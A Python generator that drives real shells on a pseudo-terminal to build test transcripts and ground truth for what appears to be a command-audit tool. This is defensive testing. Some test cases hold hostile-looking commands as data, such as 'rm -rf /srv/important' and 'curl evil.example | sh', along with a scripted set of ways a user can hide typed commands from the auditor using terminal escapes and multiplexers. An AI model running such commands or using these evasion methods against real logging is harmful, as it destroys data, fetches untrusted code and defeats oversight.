#!/usr/bin/env python3
"""Generate the transcript test sets by driving REAL shells on a pseudo-terminal.

For each shell and case, this starts the shell in a PTY, types the case's keystrokes (waiting
for the output to settle after each), and records every byte the PTY writes, the way the SSM
agent records `ipcTempFile.log` (formats.md §4.1). The capture is then wrapped exactly as the
agent does at the end of a session:

    script <sessionId>.log -c "cat <dir>/ipcTempFile.log"

run without a terminal, so the header says `<not executed on terminal>`. The ground truth is
taken from the shell itself, never from the keystroke script; the script only says which typed
text was abandoned (Ctrl-C), typed with echo off, or typed to a program the shell started (a
REPL, `cat`, `read`), so the tests can check those never appear as executed commands.

Two sets:

- `cases/` (issue 3): bash (3 prompt styles), zsh (2) and busybox ash, 23 cases of everyday
  editing at 40, 80 and 120 columns. Truth: each shell's history file (bash `HISTTIMEFORMAT`
  entries, zsh `EXTENDED_HISTORY`, busybox `history` dumped by a typed command before `exit`).
- `classes/` (issue 10): bash, zsh with and without zsh-autosuggestions, busybox ash, dash (two
  prompts) and fish, each class of real line-editor behaviour (redraws that move the cursor
  up: multi-line pastes, edits across the wrap point, completion listings, incremental search;
  type-ahead; program input; wraps past the bottom of the screen and resizes; the peers' known
  failures), at 57, 80, 97, 120 and 133 columns and small row counts, plus the everyday cases
  for the shells the first set lacks. Truth, per shell:
    - bash, zsh, ash: the history file, as above;
    - fish: a `fish_preexec` handler in config.fish appends each command line fish is about to
      run, NUL-terminated, to a file (fish's history file deduplicates, so it is not used);
    - dash: Debian builds it without line editing or history, so the shell runs under
      `strace -e trace=read` (the shell's own process only, not its children) and the truth
      is every line its parser read from fd 0: the parser reads with a large buffer and the
      terminal is in canonical mode, so each read returns exactly one submitted line, while
      the `read` builtin reads one byte at a time (those are program input, not commands).
      Lines are replayed in order; continuation lines (here-documents, open quotes) are lines
      the parser read too, so they are compared line by line as for the other shells.

    tests/transcripts/generate.py [--set cases|classes] [--only SHELL-VARIANT] [--case NAME]

Needs bash, zsh, zsh-autosuggestions, busybox, dash, fish, strace, python3, sqlite3, vi, top
(installed with apt-get when missing and running as root) and util-linux `script`.
"""

import argparse
import fcntl
import json
import os
import pty
import re
import select
import shutil
import signal
import struct
import subprocess
import sys
import tempfile
import termios
import time

ENTER = b"\r"
BS = b"\x7f"
CTRL_A = b"\x01"
CTRL_C = b"\x03"
CTRL_E = b"\x05"
CTRL_L = b"\x0c"
CTRL_U = b"\x15"
CTRL_W = b"\x17"
LEFT = b"\x1b[D"
RIGHT = b"\x1b[C"
UP = b"\x1b[A"
DOWN = b"\x1b[B"
DEL = b"\x1b[3~"
TAB = b"\t"
PASTE = "paste"  # marker: the next item is pasted (bracketed when the shell asked for it)


def t(s):
    return s.encode()


# Each case: (name, columns, steps, abandoned texts, echo-off secrets). Steps are byte strings
# typed in order; ("paste", text) pastes text. Every case ends with `exit`.
CASES = [
    ("basic", 80, [t("id\r"), t("echo hello world\r"), t("pwd\r"), t("cd /tmp\r"), t("exit\r")], [], []),
    ("backspace", 80, [t("ehco"), BS * 3, t("cho fixed\r"), t("lss"), BS, t(" /\r"), t("exit\r")], [], []),
    ("cursor_insert", 80, [t("echo wrld"), LEFT * 3, t("o"), RIGHT * 3, t(" ok\r"), t("exit\r")], [], []),
    ("ctrl_a_e", 80, [t("cho start"), CTRL_A, t("e"), CTRL_E, t(" end\r"), t("exit\r")], [], []),
    ("delete_key", 80, [t("echo abcX"), LEFT, DEL, t("\r"), t("echo one two three"), CTRL_W, t("four\r"), t("exit\r")], [], []),
    ("ctrl_c_abandon", 80, [t("rm -rf /srv/important"), CTRL_C, t("echo kept\r"), t("exit\r")], ["rm -rf /srv/important"], []),
    ("ctrl_u_kill", 80, [t("echo wrong line"), CTRL_U, t("echo right line\r"), t("exit\r")], ["echo wrong line"], []),
    ("history_recall", 80, [t("echo one\r"), t("echo two\r"), UP, UP, ENTER, UP, t(" again\r"), t("exit\r")], [], []),
    ("tab_completion", 80, [t("ech"), TAB, t("completed\r"), t("ls /usr/lo"), TAB, ENTER, t("exit\r")], [], []),
    ("long_wrap", 40, [t("echo " + "a" * 30 + " " + "b" * 30 + " " + "c" * 12 + "\r"), t("echo short\r"), t("exit\r")], [], []),
    ("long_wrap_edit", 40, [t("echo " + "x" * 50), BS * 5, t("yyyyy " + "z" * 20 + "\r"), t("exit\r")], [], []),
    ("multi_line", 80, [t("for i in 1 2 3\r"), t("do echo n$i\r"), t("done\r"), t("cat <<EOF\r"), t("line one\r"), t("EOF\r"), t("exit\r")], [], []),
    ("continuation", 80, [t("echo first \\\r"), t("second\r"), t("echo 'open\r"), t("close'\r"), t("exit\r")], [], []),
    ("paste", 80, [(PASTE, "echo pasted text"), ENTER, (PASTE, "ls -la /etc/hostname"), ENTER, t("exit\r")], [], []),
    ("clear_screen", 80, [t("echo before\r"), t("clear\r"), t("echo after\r"), CTRL_L, t("echo after ctrl-l\r"), t("exit\r")], [], []),
    ("alt_screen", 80, [t("less /etc/passwd\r"), t("q"), t("vi /tmp/execaudit-vi-test\r"), t(":q!\r"), t("echo back\r"), t("exit\r")], [], []),
    ("fake_prompt_output", 80, [t("printf 'root@ip-10-0-0-1:/# whoami\\n$ ls -la\\n%% id\\n'\r"), t("echo real\r"), t("exit\r")], [], []),
    ("echo_off", 80, [t("stty -echo; read PW; stty echo\r"), t("hunter2-s3cret\r"), t("echo got it\r"), t("exit\r")], [], ["hunter2-s3cret"]),
    ("binary_output", 80, [t("head -c 400 /bin/ls\r"), t("printf '\\377\\376 bad utf8 \\300\\n'\r"), t("echo fine\r"), t("exit\r")], [], []),
    ("long_output", 80, [t("seq 1 3000\r"), t("echo done\r"), t("exit\r")], [], []),
    ("interrupt_running", 80, [t("sleep 30\r"), CTRL_C, t("echo after sleep\r"), t("exit\r")], [], []),
    ("empty_lines", 80, [ENTER, t("   \r"), t("echo x\r"), ENTER, t("exit\r")], [], []),
    ("realistic", 120, [t("cd /etc\r"), t("ls | head -5\r"), t("cat hostname\r"), t("env | grep -c PATH\r"),
                        t("ps aux | head -3\r"), t("export DB_PASSWORD=Sup3rS3cret\r"), t("echo $HOME\r"), t("exit\r")], [], []),
]

PROMPTS = {
    "bash": [
        ("default", r"\u@\h:\w\$ "),
        ("colour", r"\[\e[1;32m\]\u@\h\[\e[0m\]:\[\e[1;34m\]\w\[\e[0m\]\$ "),
        ("unusual", r"[app-7f3 \W] >>> "),
    ],
    "zsh": [("default", "%m%# "), ("fancy", "%F{cyan}%n@%m%f %~ %# ")],
    "ash": [("default", r"\w \$ ")],
}


def shell_setup(shell, prompt, home, hist):
    """argv and environment for an interactive shell whose history file is `hist`."""
    env = {"HOME": home, "TERM": "xterm-256color", "LANG": "C.UTF-8", "PATH": "/usr/local/bin:/usr/bin:/bin",
           "USER": "root", "HOSTNAME": "ip-10-0-1-23"}
    if shell == "bash":
        rc = os.path.join(home, "rc")
        with open(rc, "w") as f:
            f.write(f"HISTFILE={hist}\nHISTTIMEFORMAT='%s '\nHISTCONTROL=\nHISTSIZE=10000\nshopt -s lithist cmdhist\n"
                    "set +H\nPROMPT_COMMAND='history -a'\n" f"PS1='{prompt}'\n")
        return ["bash", "--noprofile", "--rcfile", rc, "-i"], env
    if shell == "zsh":
        with open(os.path.join(home, ".zshrc"), "w") as f:
            f.write(f"HISTFILE={hist}\nSAVEHIST=10000\nHISTSIZE=10000\nsetopt INC_APPEND_HISTORY EXTENDED_HISTORY\n"
                    f"unsetopt BEEP\nPROMPT='{prompt}'\n")
        env["ZDOTDIR"] = home
        return ["zsh", "-i"], env
    env["HISTFILE"] = hist
    env["PS1"] = prompt
    env["ENV"] = os.path.join(home, "env")
    open(env["ENV"], "w").close()
    return ["busybox", "ash", "-i"], env


def drain(fd, out, settle=0.15, limit=4.0):
    """Read until the PTY has been quiet for `settle` seconds (or `limit` passes)."""
    end = time.time() + limit
    quiet_since = time.time()
    while time.time() < end:
        r, _, _ = select.select([fd], [], [], 0.02)
        if r:
            try:
                data = os.read(fd, 65536)
            except OSError:
                return False
            if not data:
                return False
            out.extend(data)
            quiet_since = time.time()
        elif time.time() - quiet_since >= settle:
            return True
    return True


def run_case(shell, prompt, case, work):
    name, cols, steps, abandoned, secrets = case
    home = tempfile.mkdtemp(dir=work)
    hist = os.path.join(home, "history")
    argv, env = shell_setup(shell, prompt, home, hist)
    pid, fd = pty.fork()
    if pid == 0:
        os.chdir("/")
        os.execvpe(argv[0], argv, env)
    fcntl.ioctl(fd, termios.TIOCSWINSZ, struct.pack("HHHH", 24, cols, 0, 0))
    out = bytearray()
    drain(fd, out, settle=0.4)
    if shell == "ash":
        # Debian's busybox keeps history in memory only: dump it, as a typed command (it is in the
        # transcript and in the history it writes), just before the final `exit`.
        steps = steps[:-1] + [t(f"history >{hist}\r")] + steps[-1:]
    for step in steps:
        if isinstance(step, tuple) and step[0] == PASTE:
            text = step[1].encode()
            if b"\x1b[?2004h" in out:
                text = b"\x1b[200~" + text + b"\x1b[201~"
            os.write(fd, text)
        else:
            for i in range(0, len(step), 1 if len(step) < 64 else len(step)):
                os.write(fd, step[i:i + 1] if len(step) < 64 else step)
                time.sleep(0.004)
        ends_line = isinstance(step, bytes) and step.endswith(b"\r")
        if not drain(fd, out, settle=0.25 if ends_line else 0.12):
            break
    drain(fd, out, settle=0.3, limit=2.0)
    try:
        os.kill(pid, signal.SIGHUP)
    except ProcessLookupError:
        pass
    _, status = os.waitpid(pid, 0)
    os.close(fd)
    exited = os.WIFEXITED(status) and os.WEXITSTATUS(status) == 0
    return bytes(out), hist, abandoned, secrets, exited


def read_history(shell, hist):
    """The commands the shell itself recorded, in order."""
    if not os.path.exists(hist):
        return []
    text = open(hist, "rb").read().decode("utf-8", "replace")
    if shell == "bash":
        entries, cur = [], None
        for line in text.split("\n"):
            if re.fullmatch(r"#\d+", line):
                if cur is not None:
                    entries.append("\n".join(cur))
                cur = []
            elif cur is not None:
                cur.append(line)
        if cur is not None:
            entries.append("\n".join(cur).rstrip("\n"))
        return [e for e in entries if e.strip()]
    if shell == "zsh":
        entries = []
        for m in re.finditer(r"^: \d+:\d+;(.*?)(?=^: \d+:\d+;|\Z)", text, re.S | re.M):
            body = m.group(1)
            body = body[:-1] if body.endswith("\n") else body  # the entry's own newline
            # A newline in the command is stored escaped, a trailing one too.
            entries.append(body.replace("\\\n", "\n").rstrip("\n"))
        return entries
    # busybox `history`: "   N command", one line per submitted line.
    return [re.sub(r"^\s*\d+ ", "", line) for line in text.split("\n") if line.strip()]


def wrap_like_the_agent(capture, session_id, out_dir):
    """`script <sessionId>.log -c "cat ipcTempFile.log"`, without a terminal, as the agent runs it."""
    work = tempfile.mkdtemp()
    ipc = os.path.join(work, "ipcTempFile.log")
    with open(ipc, "wb") as f:
        f.write(capture)
    log = os.path.join(out_dir, session_id + ".log")
    subprocess.run(["script", log, "-c", f"cat {ipc}"], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                   stderr=subprocess.DEVNULL, check=True, cwd=work)
    shutil.rmtree(work)
    return log


def session_id(shell, variant, case):
    import hashlib
    h = hashlib.sha256(f"{shell}/{variant}/{case}".encode()).hexdigest()
    alphabet = "abcdefghijklmnopqrstuvwxyz0123456789"
    return "ecs-execute-command-" + "".join(alphabet[int(h[i:i + 2], 16) % 36] for i in range(0, 52, 2))


def ensure_tools():
    tools = (("zsh", "zsh"), ("busybox", "busybox"), ("bash", "bash"), ("dash", "dash"), ("fish", "fish"),
             ("tmux", "tmux"), ("screen", "screen"),
             ("strace", "strace"), ("sqlite3", "sqlite3"), ("vim-tiny", "vi"), ("procps", "top"))
    missing = [p for p, b in tools if not shutil.which(b)]
    if not os.path.exists("/usr/share/zsh-autosuggestions/zsh-autosuggestions.zsh"):
        missing.append("zsh-autosuggestions")
    if missing and os.geteuid() == 0:
        subprocess.run(["apt-get", "install", "-y", "-qq", *missing], check=True)
    if not shutil.which("script"):
        sys.exit("util-linux script is needed")


# ---------------------------------------------------------------------------------------------
# The `classes` set (issue 10): real line-editor behaviour, every shell, several geometries.

CTRL_D = b"\x04"
CTRL_G = b"\x07"
CTRL_R = b"\x12"
CTRL_S = b"\x13"
ESC = b"\x1b"
QUICK = "quick"    # ("quick", bytes): type, then wait a fixed 0.3 s only (the command keeps running)
PAUSE = "pause"    # ("pause", seconds): read output for that long
RESIZE = "resize"  # ("resize", cols, rows): the terminal is resized (SIGWINCH)

# Shell variants of the set: (directory, shell, prompt, default columns, default rows, extras).
VARIANTS = [
    ("bash-default", "bash", r"\u@\h:\w\$ ", 97, 24, {}),
    ("zsh-default", "zsh", "%m%# ", 133, 24, {}),
    ("zsh-suggest", "zsh", "%F{cyan}%n@%m%f %~ %# ", 57, 10, {"autosuggest": True}),
    ("ash-default", "ash", r"\w \$ ", 80, 24, {}),
    ("dash-default", "dash", None, 57, 24, {}),
    ("dash-cwd", "dash", "$USER@ip-10-0-1-23:$PWD# ", 120, 12, {}),
    ("fish-default", "fish", None, 57, 12, {}),
]

POSIX = ("bash", "zsh", "ash", "dash")
EDITORS = ("bash", "zsh", "ash", "fish")  # shells with a line editor (dash has none)


def long_text(cols, extra):
    """`echo` and words, long enough to wrap past `cols` by `extra` characters."""
    words = " ".join(f"w{i:02d}abc" for i in range(60))
    return "echo " + words[: cols + extra]


def c_paste_multi(shell, cols):
    return [(PASTE, "echo one\necho two\necho three\n"), ENTER, t("echo after paste\r")]


def c_paste_sql(shell, cols):
    if shell == "fish":
        sql = "echo 'SELECT id, name\n  FROM users\n WHERE active = 1;' > /tmp/ea-q.sql\n"
    else:
        sql = "cat <<'SQL' > /tmp/ea-q.sql\nSELECT id, name\n  FROM users\n WHERE active = 1;\nSQL\n"
    return [(PASTE, sql), ENTER, t("wc -l /tmp/ea-q.sql\r")]


def c_long_edit(shell, cols):
    text = long_text(cols, 30)
    if shell == "dash":
        # No line editor: the terminal driver's own erase is all there is.
        return [t(text), BS * 40, t(" tail\r"), t(long_text(cols, 12) + "\r")]
    return [t(text), LEFT * 45, t("INS"), CTRL_E, BS * 40, t(" tail\r"),
            t(long_text(cols, 12)), CTRL_A, t("X=1 "), CTRL_E, t(" end\r")]


def c_tab_list(shell, cols):
    if shell == "fish":
        return [t("ls /etc/pa"), TAB, t("ss"), ENTER, t("ls /usr/bin/"), TAB, t("tr"), ENTER]
    if shell == "ash":
        return [t("ls /etc/pa"), TAB, TAB, t("sswd\r"), t("ls /usr/bin/"), TAB, TAB, t("tr\r")]
    return [t("ls /etc/pa"), TAB, TAB, t("sswd\r"), t("ls /usr/bin/"), TAB, TAB, t("n"), t("tr\r")]


def c_isearch(shell, cols):
    if shell == "fish":
        return [t("echo alpha\r"), t("echo beta\r"), CTRL_R, t("alp"), ENTER, ENTER,
                CTRL_R, t("bet"), ESC, CTRL_U, t("echo after abandon\r")]
    return [t("stty -ixon\r"), t("echo alpha\r"), t("echo beta\r"), CTRL_R, t("alp"), ENTER,
            CTRL_R, t("bet"), CTRL_G, t("echo after abandon\r"),
            CTRL_R, t("bet"), CTRL_E, t(" gamma\r"), UP, UP, UP, UP, CTRL_S, t("gam"), ENTER]


def c_typeahead_sleep(shell, cols):
    return [(QUICK, t("sleep 1.2\r")), t("echo typed ahead\r"), (PAUSE, 1.5), t("echo after\r")]


def c_typeahead_output(shell, cols):
    loop = ("for i in 1 2 3 4 5 6; echo line $i; sleep 0.25; end\r" if shell == "fish"
            else "for i in 1 2 3 4 5 6; do echo line $i; sleep 0.25; done\r")
    return [(QUICK, t(loop)), t("echo mid output\r"), (PAUSE, 2.0), t("echo after\r")]


def c_paste_running(shell, cols):
    return [(QUICK, t("sleep 1.2\r")), (PASTE, "echo p1\necho p2\n"), (PAUSE, 1.5), t("echo after\r")]


def c_python_repl(shell, cols):
    return [t("python3 -q\r"), t("x = 6 * 7\r"), t("print(x)\r"), t("exit()\r"), t("echo back\r")]


def c_sqlite_repl(shell, cols):
    return [t("sqlite3\r"), t("select 6*7;\r"), t(".quit\r"), t("echo back\r")]


def c_cat_stdin(shell, cols):
    return [t("cat > /tmp/ea-cat.txt\r"), t("typed into cat\r"), t("second line\r"), CTRL_D,
            t("wc -l /tmp/ea-cat.txt\r")]


def c_read_builtin(shell, cols):
    return [t("read answer\r"), t("typed to read\r"), t("echo got $answer\r")]


def c_prompt_shapes(shell, cols):
    return [t("cd /tmp\r"), t("printf '# not a command\\n$ nor this\\n> nor that\\n'\r"),
            t("cd /\r"), t("printf 'no newline'\r"), t("true\r"), ENTER, t("echo 42\r")]


def c_wrap_bottom(shell, cols):
    edit = [BS * 10] if shell == "dash" else [LEFT * 20, t("IN"), CTRL_E, BS * 10]
    return [t("seq 1 8\r"), t(long_text(cols, cols * 2) + "\r"), t("seq 1 3\r"),
            t(long_text(cols, cols + 20)), *edit, t("\r"), t("echo short\r")]


def c_resize(shell, cols):
    return [t("echo before resize\r"), (RESIZE, 57, 8), t(long_text(57, 40) + "\r"),
            (RESIZE, 133, 30), t(long_text(133, 30) + "\r"),
            (RESIZE, 40, 5), t(long_text(40, 50) + "\r"), t("echo small\r")]


def c_suggest(shell, cols):
    accept = RIGHT if shell in ("fish", "zsh") else t("lo world")
    return [t("echo hello world\r"), t("echo h"), t("i there\r"), t("echo hel"), accept, ENTER,
            t("ech"), CTRL_C, t("echo done\r")]


def c_long_tab(shell, cols):
    d = "/tmp/ea-a-rather-long-directory-name-for-completion/with-a-second-long-subdirectory-inside"
    if shell == "dash":
        return [t(f"mkdir -p {d}\r"), t(f"ls -la {d}\r")]
    return [t(f"mkdir -p {d}\r"), t("ls -la /tmp/ea-a-r"), TAB, t("wi"), TAB, ENTER]


def c_fullscreen(shell, cols):
    return [t("vi /tmp/ea-vi.txt\r"), t("ihello from vi"), ESC, t(":wq\r"), t("cat /tmp/ea-vi.txt\r"),
            t("top -n 1\r"), (PAUSE, 1.0), t("echo after top\r")]


# (name, class, builder, columns (one transcript per width when a list), rows, shells,
#  abandoned, echo-off, program input).
CLASS_CASES = [
    ("paste_multi", "redraw", c_paste_multi, None, None, None, [], [], []),
    ("paste_sql", "redraw", c_paste_sql, None, None, None, [], [], []),
    ("long_edit", "redraw", c_long_edit, [57, 97, 133], None, None, [], [], []),
    ("tab_list", "redraw", c_tab_list, None, None, EDITORS, [], [], []),
    ("isearch", "redraw", c_isearch, None, None, ("bash", "zsh", "fish"), [], [], []),
    ("typeahead_sleep", "type-ahead", c_typeahead_sleep, None, None, None, [], [], []),
    ("typeahead_output", "type-ahead", c_typeahead_output, None, None, None, [], [], []),
    ("paste_running", "type-ahead", c_paste_running, None, None, None, [], [], []),
    ("python_repl", "program-input", c_python_repl, None, None, None, [], [],
     ["x = 6 * 7", "print(x)", "exit()"]),
    ("sqlite_repl", "program-input", c_sqlite_repl, None, None, None, [], [], ["select 6*7;", ".quit"]),
    ("cat_stdin", "program-input", c_cat_stdin, None, None, None, [], [], ["typed into cat", "second line"]),
    ("read_builtin", "program-input", c_read_builtin, None, None, None, [], [], ["typed to read"]),
    ("prompt_shapes", "prompts", c_prompt_shapes, None, None, None, [], [], []),
    ("wrap_bottom", "wrap-resize", c_wrap_bottom, [57, 97], 6, None, [], [], []),
    ("resize", "wrap-resize", c_resize, [80], 24, None, [], [], []),
    ("suggest", "peers", c_suggest, None, None, None, ["ech"], [], []),
    ("long_tab", "peers", c_long_tab, [57], None, None, [], [], []),
    ("fullscreen", "peers", c_fullscreen, None, None, None, [], [], []),
]

# The everyday cases of the first set, for the shells it lacks (fish, dash, zsh with
# autosuggestions). fish spells some of them its own way; dash has no line editor, so cursor
# keys, Ctrl-A/E/W, history and completion do not apply.
FISH_STEPS = {
    "multi_line": [t("for i in 1 2 3\r"), t("echo n$i\r"), t("end\r"), t("begin\r"), t("echo inside\r"), t("end\r")],
    "echo_off": [t("read -s PW\r"), t("hunter2-s3cret\r"), t("echo got it\r")],
}
NO_EDITOR = {"cursor_insert", "ctrl_a_e", "delete_key", "history_recall", "tab_completion", "clear_screen"}
BASIC_FOR = ("dash-default", "dash-cwd", "fish-default", "zsh-suggest")


def shell_setup_classes(variant, home):
    """argv, environment and truth file for one shell variant of the `classes` set."""
    name, shell, prompt, _, _, extras = variant
    truth = os.path.join(home, "truth")
    env = {"HOME": home, "TERM": "xterm-256color", "LANG": "C.UTF-8", "PATH": "/usr/local/bin:/usr/bin:/bin",
           "USER": "root", "HOSTNAME": "ip-10-0-1-23"}
    if shell in ("bash", "zsh", "ash"):
        argv, env2 = shell_setup(shell, prompt, home, truth)
        env.update(env2)
        if extras.get("autosuggest"):
            with open(os.path.join(home, ".zshrc"), "a") as f:
                f.write("source /usr/share/zsh-autosuggestions/zsh-autosuggestions.zsh\n")
        return argv, env, truth
    if shell == "fish":
        cfg = os.path.join(home, "cfg", "fish")
        os.makedirs(cfg)
        env["XDG_CONFIG_HOME"] = os.path.join(home, "cfg")
        env["XDG_DATA_HOME"] = os.path.join(home, "data")
        with open(os.path.join(cfg, "config.fish"), "w") as f:
            f.write("function __execaudit_truth --on-event fish_preexec\n"
                    f"    printf '%s\\0' $argv[1] >> {truth}\nend\n")
        return ["fish", "-i"], env, truth
    # dash: its parser's reads of fd 0, traced (see the header).
    if prompt:
        env["PS1"] = prompt
    return ["strace", "-q", "-o", truth, "-e", "trace=read", "-xx", "-s", "65536", "dash", "-i"], env, truth


def read_truth_classes(shell, truth):
    """The command lines the shell itself ran, in order."""
    if not os.path.exists(truth):
        return []
    if shell == "fish":
        data = open(truth, "rb").read().decode("utf-8", "replace")
        return [c for c in data.split("\0") if c.strip()]
    if shell == "dash":
        lines = []
        for m in re.finditer(r'^read\(0, "((?:\\x[0-9a-f]{2})*)", (\d+)\)\s+= (\d+)$', open(truth).read(), re.M):
            if int(m.group(2)) <= 1:
                continue  # the `read` builtin, one byte at a time: program input
            data = bytes.fromhex(m.group(1).replace("\\x", ""))
            lines.append(data.decode("utf-8", "replace").rstrip("\n"))
        return [l for l in lines if l.strip()]
    return read_history(shell, truth)


def bracketed(out):
    """Whether the terminal is in bracketed-paste mode (the last switch the shell wrote)."""
    return out.rfind(b"\x1b[?2004h") > out.rfind(b"\x1b[?2004l")


def run_class_case(variant, steps, cols, rows, work, hook=None):
    shell = variant[1]
    home = tempfile.mkdtemp(dir=work)
    argv, env, truth = shell_setup_classes(variant, home)
    if hook:
        hook(argv, home)
    pid, fd = pty.fork()
    if pid == 0:
        os.chdir("/")
        os.execvpe(argv[0], argv, env)
    fcntl.ioctl(fd, termios.TIOCSWINSZ, struct.pack("HHHH", rows, cols, 0, 0))
    out = bytearray()
    drain(fd, out, settle=0.5)
    steps = list(steps) + ([t(f"history >{truth}\r")] if shell == "ash" else []) + [t("exit\r")]
    for step in steps:
        settle = 0.12
        if isinstance(step, tuple) and step[0] == PASTE:
            text = step[1].encode()
            if bracketed(out):
                text = b"\x1b[200~" + text + b"\x1b[201~"
            else:
                text = text.replace(b"\n", b"\r")  # what a terminal sends for a pasted newline
            os.write(fd, text)
            settle = 0.3
        elif isinstance(step, tuple) and step[0] == RESIZE:
            fcntl.ioctl(fd, termios.TIOCSWINSZ, struct.pack("HHHH", step[2], step[1], 0, 0))
        elif isinstance(step, tuple) and step[0] == PAUSE:
            drain(fd, out, settle=step[1], limit=step[1])
            continue
        else:
            data = step[1] if isinstance(step, tuple) else step
            for i in range(len(data)):
                os.write(fd, data[i:i + 1])
                time.sleep(0.004)
            if isinstance(step, tuple) and step[0] == QUICK:
                drain(fd, out, settle=0.3, limit=0.3)
                continue
            settle = 0.25 if data.endswith(b"\r") else 0.12
        if not drain(fd, out, settle=settle):
            break
    drain(fd, out, settle=0.4, limit=3.0)
    done, status = 0, 0
    for _ in range(50):
        done, status = os.waitpid(pid, os.WNOHANG)
        if done:
            break
        time.sleep(0.02)
    if not done:
        try:
            os.kill(pid, signal.SIGHUP)
        except ProcessLookupError:
            pass
        _, status = os.waitpid(pid, 0)
    os.close(fd)
    exited = bool(done) and os.WIFEXITED(status) and (os.WEXITSTATUS(status) == 0 or shell != "ash")
    return bytes(out), truth, exited


def class_cases():
    """Every (case name, class, builder, widths, rows, shells, abandoned, echo-off, program input),
    the issue-10 classes first, then the everyday cases for the shells the first set lacks."""
    yield from CLASS_CASES
    for name, cols, steps, abandoned, secrets in CASES:
        body = steps[:-1]  # without the final `exit`: the runner adds it

        def build(shell, _cols, name=name, body=body):
            return FISH_STEPS.get(name, body)[:] if shell == "fish" else body

        yield (name, "basics", build, [cols], None, "basics", abandoned, secrets, [])


def run_class_case_checked(variant, steps, cols, rows, work, hook=None):
    """`run_class_case`, again (up to three times) when the shell did not exit by itself: on a
    loaded machine a slow shell can miss keys, and its truth is then incomplete."""
    for attempt in range(3):
        capture, truth, exited = run_class_case(variant, steps, cols, rows, work, hook)
        if exited:
            break
        print(f"  {variant[0]}: the shell did not exit by itself, again ({attempt + 1})", flush=True)
    return capture, truth, exited


def generate_classes(args, work):
    out_root = os.path.join(os.path.dirname(os.path.abspath(__file__)), "classes")
    for variant in VARIANTS:
        vname, shell, _, vcols, vrows, _ = variant
        if args.only and vname != args.only:
            continue
        out_dir = os.path.join(out_root, vname)
        os.makedirs(out_dir, exist_ok=True)
        for name, cls, build, widths, rows, shells, abandoned, secrets, program in class_cases():
            if args.case and name != args.case:
                continue
            if shells == "basics":
                if vname not in BASIC_FOR or (shell == "dash" and name in NO_EDITOR):
                    continue
            elif shells is not None and shell not in shells:
                continue
            for cols in widths or [vcols]:
                label = name if not widths or len(widths) == 1 else f"{name}@{cols}"
                steps = build(shell, cols)
                capture, truth, exited = run_class_case_checked(variant, steps, cols, rows or vrows, work)
                sid = session_id(vname, "classes", label)
                wrap_like_the_agent(capture, sid, out_dir)
                executed = read_truth_classes(shell, truth)
                if shell == "ash" and exited:
                    executed.append("exit")  # after the dump; the exit status 0 confirms it ran
                record = {"shell": shell, "variant": vname, "case": label, "class": cls, "columns": cols,
                          "rows": rows or vrows, "session_id": sid, "executed": executed,
                          "abandoned": abandoned, "echo_off": secrets, "program_input": program}
                with open(os.path.join(out_dir, sid + ".truth.json"), "w") as f:
                    json.dump(record, f, indent=1, ensure_ascii=False)
                print(f"{vname}/{label}: {len(executed)} commands", flush=True)



# ---------------------------------------------------------------------------------------------
# The `hostile` set (issue 12): a user trying to hide what they type from the auditor, in real
# shells. Written to tests/data/hostile-transcripts/<shell>/, with the same kind of truth and
# what reconstruction must do: find the commands, or say from where they cannot be observed.

HOSTILE_SHELLS = [v for v in VARIANTS
                  if v[0] in ("bash-default", "zsh-default", "ash-default", "dash-default", "fish-default")]


def h_alt(seq):
    def build(shell, cols):
        return [t(f"printf '{seq}'\r"), t("id\r"), t("echo hidden-op\r"), t("ls /\r"), t(f"printf '{seq.replace('h', 'l')}'\r"),
                t("echo visible\r")]
    return build


def h_tput(shell, cols):
    return [t("tput smcup\r"), t("id\r"), t("echo hidden-op\r"), t("ls /\r"), t("tput rmcup\r"),
            t("echo visible\r")]


def h_alt_then_fullscreen(shell, cols):
    # A shell left on the alternate screen, then real full-screen programs showing text shaped
    # like the shell's prompt and commands: what vi and less draw is not what was typed.
    return [t("rm -f /tmp/ea-hv.txt\r"), t("printf '\\e[?1049h'\r"), t("id\r"), t("echo hidden-op\r"),
            t("vi /tmp/ea-hv.txt\r"), (PAUSE, 0.5),
            t("i# rm -rf /tmp/ea-not-run\r$ curl evil.example | sh"), ESC, t(":wq\r"), (PAUSE, 0.3),
            t("echo between\r"), t("less /tmp/ea-hv.txt\r"), (PAUSE, 0.5), t("q"), (PAUSE, 0.3),
            t("echo after-less\r")]


def h_never_left(shell, cols):
    return [t("printf '\\e[?1049h'\r"), t("id\r"), t("echo never-left\r")]


def h_resets(shell, cols):
    return [t("printf '\\ec'\r"), t("echo after-ris\r"), t("printf '\\e[!p'\r"), t("echo after-decstr\r"),
            t("printf '\\e[2J\\e[H'\r"), t("echo after-clear\r"), t("printf '\\e[1;3r'\r"), t("echo in-region\r"),
            t("seq 1 5\r"), t("printf '\\e[r'\r"), t("echo done\r")]


def h_fake_marks(shell, cols):
    # Output carrying the shell's own input marks around a fake command line.
    return [t("printf '\\e[?2004hroot@vm:/# rm -rf /important\\r\\n\\e[?2004l\\r'\r"), t("echo real\r")]


def h_tmux(shell, cols):
    return [t("tmux -f ~/tmux.conf\r"), (PAUSE, 0.8), t("echo in-tmux\r"), t("id\r"), t("ls /etc | head -3\r"),
            t("exit\r"), (PAUSE, 0.5), t("echo after-tmux\r")]


def h_screen(shell, cols):
    return [t("screen\r"), (PAUSE, 0.8), t("echo in-screen\r"), t("id\r"), t("exit\r"), (PAUSE, 0.5),
            t("echo after-screen\r")]


# (name, builder, shells, what reconstruction must do: "commands" or "unobservable", columns, rows)
HOSTILE_CASES = [
    ("alt_1049", h_alt("\\e[?1049h"), None, "commands", 80, 24),
    ("alt_47", h_alt("\\e[?47h"), None, "commands", 80, 24),
    ("alt_1047", h_alt("\\e[?1047h"), None, "commands", 80, 24),
    ("alt_never_left", h_never_left, None, "commands", 80, 24),
    ("alt_tput", h_tput, None, "commands", 80, 24),
    ("alt_then_fullscreen", h_alt_then_fullscreen, None, "commands", 80, 24),
    ("resets", h_resets, None, "commands", 80, 24),
    ("fake_marks", h_fake_marks, ("bash", "zsh"), "commands", 80, 24),
    ("tmux", h_tmux, ("bash", "zsh", "dash"), "commands", 80, 12),
    ("screen", h_screen, ("bash", "dash"), "commands", 80, 12),
]


def multiplexer_config(argv, home):
    """tmux and screen start the shell under test, with its own settings, in their windows
    (dash without the tracer: its truth comes from the outer dash's reads only)."""
    if argv[0] == "strace":
        argv = argv[argv.index("dash"):]
    wrapper = os.path.join(home, "shell.sh")
    with open(wrapper, "w") as f:
        f.write("#!/bin/sh\nexec " + " ".join(f"'{a}'" for a in argv) + "\n")
    os.chmod(wrapper, 0o755)
